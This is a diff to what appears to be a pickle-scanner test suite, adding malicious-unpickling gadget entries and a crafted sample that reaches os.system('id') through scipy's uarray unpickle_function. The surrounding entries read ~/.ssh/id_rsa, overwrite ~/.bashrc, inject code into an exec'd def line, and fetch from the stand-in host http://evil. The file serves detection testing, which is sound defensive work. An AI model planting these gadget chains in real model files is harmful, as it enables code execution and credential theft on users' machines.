@@ -217,6 +217,13 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("decorator", "FunctionMaker.create", ("f(x)", "return x", "g")),
         ("torch.nn.modules.linear", "torch.hub.load", ("evil/repo", "m")),
         ("transformers.testing_utils", "execute_subprocess_async", ("id",)),
+        # `name` is put in a def line and exec'd
+        (
+            "scipy.optimize._nonlin",
+            "_nonlin_wrapper",
+            ("f(*a):pass\nimport os\ndef g", Op(sg("scipy.optimize._nonlin", "BroydenFirst"))),
+        ),
+        ("scipy.stats._distn_infrastructure", "rv_generic._attach_argparser_methods", ("d",)),
     ],
     "resolver": [
         ("importlib", "import_module", ("os",)),
@@ -239,6 +246,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("sklearn.feature_selection._base", "attrgetter", ("os.system",)),
         ("sklearn.utils.discovery", "itemgetter", ("eval",)),
         ("fastai.gen_doc.doctest", "str2func", ("os.system",)),
+        ("pyarrow", "_module_is_available", ("evilmod",)),
         ("importlib_metadata", "entry_points", ()),
         ("scipy._lib.array_api_compat._internal", "clone_module", ("os", "g")),
         ("scipy._lib.deprecation", "_sub_module_deprecation", ()),
@@ -410,6 +418,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("zipapp", "create_archive", ("/tmp/x", "/home/u/.bashrc")),
         ("linecache", "getline", ("/home/u/.ssh/id_rsa", 1)),
         ("torchvision.datasets.utils", "_extract_tar", ("/tmp/x.tar", "/home/u")),
+        ("pandas", "DataFrame.to_string", ("/home/u/.bashrc",)),
         ("catboost.datasets", "_cached_dataset_load", ("http://evil/x.tgz", "..", "a", "b")),
         ("catboost.datasets", "_extract", ("/tmp/x.tgz", "/home/u")),
         ("catboost", "train", ("pool", "params")),
@@ -574,6 +583,21 @@ def _trick_samples() -> Iterator[tuple[str, bytes]]:
         ("torch._utils", "_rebuild_tensor.__globals__"),
     ]:
         yield f"dotted:{module}:{dotted}", p4(call(sg(module, dotted), "x"))
+    # uarray's unpickle_function(mod_name, qname, self_) imports and walks the path it names
+    yield (
+        "walk:uarray-unpickle_function",
+        p4(
+            call(
+                call(
+                    sg("scipy._lib._uarray._backend", "unpickle_function"),
+                    "os",
+                    "system",
+                    Op(b"N"),
+                ),
+                "id",
+            )
+        ),
+    )
     # attribute walks that start at an allowed module
     np_builtins = call(sg("builtins", "getattr"), sg("numpy", "core"), "__builtins__")
     yield "walk:getattr-numpy-builtins", p4(np_builtins)
